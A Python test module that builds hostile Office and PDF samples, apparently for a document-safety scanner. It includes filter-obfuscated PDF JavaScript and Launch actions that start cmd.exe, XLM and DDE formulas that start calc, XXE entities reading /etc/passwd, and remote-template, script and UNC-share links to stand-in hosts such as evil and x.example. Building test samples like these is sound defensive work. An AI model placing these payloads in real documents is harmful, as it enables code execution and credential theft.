"""More files made to do harm: macros under other names and kinds, scripts under chains of filters, harm behind what is taken."""

import base64
import gzip
import zlib
from collections.abc import Callable, Sequence

from tests.security.corpus import (
    PDF,
    SHEET_TYPE,
    Sample,
    odd_stream,
    package,
    pdf,
    relations,
    sheet,
    types,
    word,
)
from tests.security.good_files import OD, SHEET_KIND, Parts, field, figures, leads, word_with

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def lzw(data: bytes, early: int = 1) -> bytes:
    """As programs of before 2003 packed (ISO 32000-2, 7.4.4): codes of 9 to 12 bits, most significant bit first."""
    out, held, bits = bytearray(), 0, 0
    table = {bytes([n]): n for n in range(256)}
    width, word_ = 9, b""

    def put(code: int) -> None:
        nonlocal held, bits
        held, bits = held << width | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append(held >> bits & 255)
        held &= (1 << bits) - 1

    put(256)
    for byte in data:
        longer = word_ + bytes([byte])
        if longer in table:
            word_ = longer
            continue
        put(table[word_])
        table[longer] = len(table) + 2
        word_ = bytes([byte])
        if len(table) + 2 + early > 1 << width:
            width += 1
        if len(table) + 2 >= 4094:
            put(256)
            table, width = {bytes([n]): n for n in range(256)}, 9
    if word_:
        put(table[word_])
    put(257)
    if bits:
        out.append(held << (8 - bits) & 255)
    return bytes(out)


PACK: dict[str, Callable[[bytes], bytes]] = {
    "LZWDecode": lzw,
    "FlateDecode": zlib.compress,
    "ASCII85Decode": lambda b: base64.a85encode(b) + b"~>",
    "ASCIIHexDecode": lambda b: b.hex().encode() + b">",
    "RunLengthDecode": lambda b: (
        b"".join(bytes([len(b[n : n + 128]) - 1]) + b[n : n + 128] for n in range(0, len(b), 128)) + b"\x80"
    ),
}
LONG = b"/S /JavaScript /JS (app.alert(1)) /Pad (" + bytes(range(48, 91)) * 300 + b") /T /Launch"


def chained(filters: Sequence[str], body: bytes = LONG) -> bytes:
    """An object stream under these filters, the outermost first."""

    def pack(data: bytes) -> bytes:
        for name in reversed(filters):
            data = PACK[name](data)
        return data

    return odd_stream(b"/Type /ObjStm /Filter [" + b" ".join(b"/" + f.encode() for f in filters) + b"]", pack, body)


CHAINS = (
    ("LZWDecode",), ("ASCII85Decode", "LZWDecode"), ("ASCIIHexDecode", "LZWDecode"), ("LZWDecode", "FlateDecode"),
    ("RunLengthDecode", "LZWDecode"), ("ASCII85Decode", "FlateDecode", "LZWDecode"), ("ASCIIHexDecode", "ASCII85Decode", "LZWDecode", "FlateDecode"),
)  # fmt: skip


def typed(name: str, content: bytes, kind: str, relation: str = "") -> bytes:
    """A part of this kind in a document, with a relation to it."""
    made = word_with().add(name, content, kind)
    if relation:
        made.plain("word/_rels/document.xml.rels", relations(relation, name.rpartition("/")[2], ""))
    return made.made()


def workbook_within(inner: bytes) -> bytes:
    return word_with().default("xlsx", SHEET_KIND).plain("word/embeddings/a.xlsx", inner).made()


def deep() -> bytes:
    inner = Parts(SHEET_TYPE).default("xlsx", SHEET_KIND).plain("xl/embeddings/b.xlsx", figures()).made()
    return workbook_within(inner)


def entity(name: str, public: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE {name} PUBLIC "{public}" "x" [<!ENTITY e SYSTEM "file:///etc/passwd">]><{name}/>'.encode()


IMAGE, FONT = "image/png", f"{OD}.obfuscatedFont"
DISGUISED = [
    *(Sample(f"PDF: a script under {' and '.join(chain)}", "a.pdf", "runs", lambda chain=chain: chained(chain)) for chain in CHAINS),
    *(Sample(f"PDF: a program under {chain[0]}", "a.pdf", "runs", lambda chain=chain: chained(chain, b"/S /Launch /F (cmd.exe)")) for chain in CHAINS[:2]),
    Sample("PDF: more filters than anybody needs", "a.pdf", "unchecked", lambda: chained(("ASCIIHexDecode",) * 5)),
    Sample("PDF: LZW of another rule", "a.pdf", "unchecked", lambda: odd_stream(b"/Type /ObjStm /Filter /LZWDecode /DecodeParms << /EarlyChange 0 >>", lambda b: lzw(b, 0))),
    Sample("PDF: another file of a share", "a.pdf", "link", lambda: pdf(b"/A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>")),
    Sample("PDF: a share in hexadecimal", "a.pdf", "link", lambda: pdf(b"/A << /S /GoToR /F <" + b"\\\\evil\\x.pdf".hex().encode() + b"> >>")),
    Sample("PDF: a share in UTF-16", "a.pdf", "link", lambda: pdf(b"/A << /S /GoToR /UF <FEFF" + "\\\\evil\\x.pdf".encode("utf-16-be").hex().encode() + b"> >>")),
    Sample("PDF: a share elsewhere", "a.pdf", "link", lambda: pdf(b"/A << /S /GoToR /F 7 0 R >>") + b"7 0 obj (file://evil/x.pdf) endobj %%EOF"),
    Sample("PDF: a link to a program", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>")),
    Sample("PDF: a link to a share by slashes", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI (file:////evil/x) >>")),
    Sample("PDF: a dynamic form", "a.pdf", "runs", lambda: pdf(b"/AcroForm << /XFA [ (a) 4 0 R ] >>")),
    Sample("PDF: a dynamic form far behind its name", "a.pdf", "runs", lambda: pdf(b"/AcroForm << /XFA" + b" " * 90_000 + b"[ (a) 4 0 R ] >>")),
    Sample("PDF: an address far behind its name", "a.pdf", "link", lambda: pdf(b"/A << /S /URI /URI" + b" " * 90_000 + b"(file://evil/x) >>")),
    Sample("a document with a password", "a.docx", "locked", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    Sample("a document of old", "a.doc", "old", lambda: OLE),
    Sample("a photograph", "a.jpg", "picture", lambda: b"\xff\xd8\xff"),
    Sample("a folder in one file", "a.zip", "archive", word),
    Sample("PDF: locked, with compressed objects", "a.pdf", "locked", lambda: odd_stream(b"/Type /ObjStm /Filter /FlateDecode", lambda _: b"\x13" * 40) + b"trailer << /Encrypt 9 0 R >>"),
    Sample("macros called a picture", "a.docx", "unsafe", lambda: typed("word/media/image1.png", OLE, IMAGE)),
    Sample("macros related to, called a picture", "a.docx", "macro", lambda: typed("word/image1.png", b"\0" * 9, IMAGE, "vbaProject")),
    Sample("macros related to, called a font", "a.docx", "macro", lambda: typed("word/font1.odttf", OLE, FONT, "vbaProject")),
    Sample("macros of a future kind", "a.docx", "macro", lambda: typed("word/x.png", b"\0", IMAGE, "vbaProjectNext")),
    Sample("macros of Google's kind", "a.docx", "unsafe", lambda: typed("word/metadata", OLE, "application/binary")),
    Sample("macros for a printer", "a.docx", "unsafe", lambda: typed("word/p.bin", OLE, f"{OD}.wordprocessingml.printerSettings")),
    Sample("keys that start macros", "a.docx", "macro", lambda: typed("word/customizations.xml", b"<a/>", "application/vnd.ms-word.keyMapCustomizations+xml")),
    Sample("a macro sheet called a sheet", "a.xlsx", "macro", lambda: Parts(SHEET_TYPE).add("xl/worksheets/sheet1.xml", b"<xm:macrosheet xmlns:xm='u'/>", f"{OD}.spreadsheetml.worksheet+xml").made()),
    Sample("a macro sheet related to as such", "a.xlsx", "macro", lambda: Parts(SHEET_TYPE).add("xl/s.xml", b"<a/>", f"{OD}.spreadsheetml.worksheet+xml").plain("xl/_rels/workbook.xml.rels", relations("xlMacrosheet", "s.xml", "")).made()),
    Sample("a name that runs", "a.xlsx", "embedded", lambda: package({"xl/workbook.xml": b"<workbook><definedName name='a' xlm='1'>EXEC(\"calc\")</definedName></workbook>"}, main=SHEET_TYPE)),
    Sample("macros in the figures of a chart", "a.docx", "macro", lambda: workbook_within(package({"xl/vbaProject.bin": b"x"}, main=SHEET_TYPE))),
    Sample("a workbook with macros called one without", "a.docx", "macro", lambda: workbook_within(package(head=types(SHEET_TYPE.replace("openxmlformats-officedocument.spreadsheetml.sheet", "ms-excel.sheet.macroEnabled")), path="xl/workbook.xml"))),
    Sample("a formula that starts a program, in the figures", "a.docx", "embedded", lambda: workbook_within(sheet("cmd|'/c calc'!A0"))),
    Sample("a document in a document in a document", "a.docx", "embedded", deep),
    Sample("no workbook behind a chart", "a.docx", "embedded", lambda: workbook_within(OLE)),
    Sample("an equation of old", "a.docx", "embedded", lambda: word('<o:OLEObject xmlns:o="u" Type="Embed" ProgID="Equation.3"/>')),
    Sample("a file as an object", "a.docx", "embedded", lambda: word('<o:OLEObject xmlns:o="u" Type="Embed" ProgID="Package"/>')),
    Sample("an object typed as one", "a.docx", "embedded", lambda: typed("word/o.bin", b"\0", f"{OD}.oleObject", "oleObject")),
    Sample("a page as a picture, with a script", "a.docx", "embedded", lambda: typed("word/media/a.pdf", PDF + b"<< /S /JavaScript >>", "application/pdf")),
    Sample("a packed program as a picture", "a.docx", "unsafe", lambda: typed("word/media/a.png", gzip.compress(b"MZ"), IMAGE)),
    Sample("a chart that fetches", "a.docx", "embedded", lambda: leads("oleObject", "https://x.example/a.xlsx")),
    Sample("a chart by two names", "a.docx", "embedded", lambda: leads("oleObject", "!x-usc:http://x.example/a")),
    Sample("a chart by a drive and another name", "a.docx", "embedded", lambda: leads("oleObject", "file:///C:\\a.xlsx!x-usc:http://x.example/a")),
    Sample("a chart of a script", "a.docx", "embedded", lambda: leads("oleObject", "file:///C:\\a.sct")),
    Sample("a chart of a script elsewhere", "a.docx", "embedded", lambda: leads("oleObject", "script:http://x.example/a.sct")),
    Sample("a chart of a share", "a.docx", "embedded", lambda: leads("oleObject", "file:///\\\\evil\\x.xlsx")),
    Sample("a template of a share", "a.docx", "embedded", lambda: leads("attachedTemplate", "file://evil/x.dotx", part="settings")),
    Sample("a template with macros at hand", "a.docx", "embedded", lambda: leads("attachedTemplate", "file:///C:\\x.dotm", part="settings")),
    Sample("a picture of a share", "a.docx", "embedded", lambda: leads("image", "\\\\evil\\x.png")),
    Sample("a picture of a share, escaped", "a.docx", "embedded", lambda: leads("image", "file:///%5C%5Cevil%5Cx.png")),
    Sample("a list of a share", "a.docx", "embedded", lambda: leads("mailMergeSource", "file://evil/x.xlsx", part="settings")),
    *(Sample(f"a link to {to}", "a.docx", "link", lambda to=to: leads("hyperlink", to)) for to in (
        "file:///C:\\Windows\\System32\\cmd.exe", "run.bat", "C:\\x.exe.", "C:\\x.%65xe", "%2F%2Fevil/x", "file:///./\\\\evil\\x", "file:\\\\evil\\x", "file:///C:/x.com", "javascript:alert(1)", "search-ms:query=x", "ms-msdt:/id", "smb://evil/x",
        "\\\\evil\\x", "//evil/x", "file:////evil/x", "vbscript:x", "data:text/html,x", "mhtml:http://x", "ldap://evil",
    )),
    Sample("a table of a page", "a.docx", "embedded", lambda: word(field('LINK htmlfile "http://x.example/a.html"'))),
    Sample("a table of a share", "a.docx", "embedded", lambda: word(field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\x.xlsx"'))),
    Sample("a table of another program", "a.docx", "embedded", lambda: word(field('LINK Package "C:\\\\x.exe"'))),
    Sample("a picture of a share in a field", "a.docx", "embedded", lambda: word(field('INCLUDEPICTURE "file://evil/x.png"'))),
    Sample("a picture of a share behind a switch", "a.docx", "embedded", lambda: word(field('INCLUDEPICTURE \\d "\\\\\\\\evil\\\\x.png"'))),
    Sample("entities of a drawing", "a.docx", "unsafe", lambda: typed("word/media/a.svg", entity("svg", "-//W3C//DTD SVG 1.1//EN"), "image/svg+xml")),
    Sample("entities of a printer", "a.docx", "unsafe", lambda: typed("word/p.bin", entity("plist", "-//Apple//DTD PLIST 1.0//EN"), f"{OD}.wordprocessingml.printerSettings")),
    Sample("a grammar nobody knows", "a.docx", "unsafe", lambda: typed("word/a.svg", b'<!DOCTYPE svg SYSTEM "http://x.example/a.dtd"><svg/>', "image/svg+xml")),
]  # fmt: skip
